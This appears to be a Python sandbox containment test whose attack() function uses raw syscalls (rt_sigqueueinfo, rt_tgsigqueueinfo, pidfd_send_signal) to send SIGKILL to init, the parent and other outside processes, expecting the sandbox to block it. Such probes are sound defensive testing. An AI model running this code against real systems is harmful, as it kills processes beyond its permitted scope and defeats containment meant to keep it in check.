"""Queues signals (rt_sigqueueinfo, rt_tgsigqueueinfo, pidfd_send_signal)."""
# expect: contained
# ruff: noqa

import ctypes
import os

libc = ctypes.CDLL(None, use_errno=True)
X86 = os.uname().machine == "x86_64"


def system(x86, arm, *arguments):
    """A raw system call; its result, or None where it failed."""
    found = libc.syscall(ctypes.c_long(x86 if X86 else arm), *map(ctypes.c_long, arguments))
    return None if found < 0 else found


def others(target):
    return {1, 2, 3, os.getppid(), target["parent"], *target["zygotes"]} - {0, os.getpid()}


def attack(target):
    done = []

    info = ctypes.create_string_buffer(128)
    ctypes.cast(info, ctypes.POINTER(ctypes.c_int))[0] = 9
    ctypes.cast(info, ctypes.POINTER(ctypes.c_int))[2] = -1
    for number in others(target):
        if system(129, 138, number, 9, ctypes.addressof(info)) is not None:
            done.append(f"queued for {number}")
        if system(297, 240, number, number, 9, ctypes.addressof(info)) is not None:
            done.append(f"queued for a thread of {number}")
        if system(424, 424, 3, 9, 0, 0) is not None:
            done.append("by pidfd")
    return done
